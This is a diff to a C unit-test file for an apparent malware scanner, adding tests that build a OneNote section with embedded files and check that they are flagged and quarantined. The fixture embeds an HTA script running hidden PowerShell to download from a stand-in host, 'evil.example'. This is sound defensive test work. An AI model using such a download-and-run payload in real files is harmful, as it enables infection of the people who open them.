@@ -2,10 +2,11 @@
  * check_rtf.c - RTF documents: OLE objects behind obfuscated \objdata,
  * exploit classes by name and by CLSID, OLE packages holding executables,
  * DDE fields, bounds on hostile nesting and hex; the real rtfobj and Tika
- * samples of the corpus.
+ * samples of the corpus. OneNote sections and the files they embed.
  */
 #include "config.h"
 
+#include "office/onenote.h"
 #include "office/rtf.h"
 #include "testutil.h"
 
@@ -336,6 +337,106 @@ START_TEST(exploit_class_names)
 }
 END_TEST
 
+static void
+put_u16s(GByteArray *b, const char *ascii)
+{
+	for (; *ascii; ascii++) {
+		uint8_t u[2] = { (uint8_t)*ascii, 0 };
+
+		g_byte_array_append(b, u, 2);
+	}
+	g_byte_array_append(b, (const uint8_t *)"\0\0", 2);
+}
+
+static void
+fdso(GByteArray *b, const void *data, size_t n, uint64_t cb)
+{
+	static const uint8_t guid[16] = { 0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26,
+		0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC };
+	uint8_t h[20] = { 0 };
+
+	g_byte_array_append(b, guid, 16);
+	for (int i = 0; i < 8; i++)
+		h[i] = (uint8_t)(cb >> (8 * i));
+	g_byte_array_append(b, h, 20);
+	g_byte_array_append(b, data, (guint)n);
+}
+
+static GByteArray *
+onenote(void)
+{
+	static const char hta[] = "<html><script>new ActiveXObject("
+	    "\"WScript.Shell\").Run(\"powershell -w hidden iwr "
+	    "http://evil.example/p\")</script></html>";
+	GByteArray *b = g_byte_array_new();
+	uint8_t pad[64] = { 0 };
+
+	g_byte_array_append(b, (const uint8_t *)"\xe4\x52\x5c\x7b\x8c\xd8"
+	    "\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16);
+	g_byte_array_append(b, pad, sizeof(pad));
+	put_u16s(b, "Open.hta");
+	put_u16s(b, "picture.png");
+	fdso(b, hta, sizeof(hta) - 1, sizeof(hta) - 1);
+	g_byte_array_append(b, pad, sizeof(pad));
+	/* A PE whose cbLength runs past the end of the section. */
+	fdso(b, "MZ\x90\x00\x03\x00", 6, 1u << 30);
+	return b;
+}
+
+START_TEST(onenote_embedded_files)
+{
+	GByteArray *b = onenote();
+	char *json;
+	const char *const want[] = { "\"OFFICE_PACKAGE_EXECUTABLE\"",
+		"OneNote embeds Open.hta", "note.one/onenote-file-1",
+		"note.one/onenote-file-2", "\"EXECUTABLE_ATTACHMENT\"",
+		"\"action\":\"quarantine\"", "\"format\":\"OneNote\"",
+		NULL };
+	const char *const not[] = { "picture.png", NULL };
+
+	json = scan_json(b->data, b->len, "note.one");
+	want_in(json, want, true);
+	want_in(json, not, false);
+	g_free(json);
+	/* Every prefix: bounded, no overrun. */
+	for (size_t n = 0; n < b->len; n += 3) {
+		json = scan_json(b->data, n, "cut.one");
+		g_free(json);
+	}
+	g_byte_array_free(b, TRUE);
+}
+END_TEST
+
+static void
+count_file(void *ctx, const uint8_t *data, size_t n, bool cut)
+{
+	(void)data;
+	(void)n;
+	(void)cut;
+	(*(unsigned *)ctx)++;
+}
+
+START_TEST(onenote_many_files)
+{
+	GByteArray *b = g_byte_array_new();
+	unsigned seen = 0;
+	char *json;
+
+	g_byte_array_append(b, (const uint8_t *)"\xe4\x52\x5c\x7b\x8c\xd8"
+	    "\xa7\x4d", 8);
+	for (int i = 0; i < 1000; i++)
+		fdso(b, "x", 1, 1);
+	ck_assert_uint_eq(emf_onenote_files(b->data, b->len, 5000,
+	    count_file, &seen), 1000);
+	ck_assert_uint_eq(seen, 1000);
+	json = scan_json(b->data, b->len, "many.one");
+	ck_assert_ptr_nonnull(strstr(json, "onenote_files"));
+	ck_assert_ptr_null(strstr(json, "onenote-file-65\""));
+	g_free(json);
+	g_byte_array_free(b, TRUE);
+}
+END_TEST
+
 static Suite *
 rtf_suite(void)
 {
@@ -349,6 +450,8 @@ rtf_suite(void)
 	tcase_add_test(tc, hostile_nesting_and_hex);
 	tcase_add_test(tc, corpus_rtf);
 	tcase_add_test(tc, exploit_class_names);
+	tcase_add_test(tc, onenote_embedded_files);
+	tcase_add_test(tc, onenote_many_files);
 	suite_add_tcase(s, tc);
 	return s;
 }
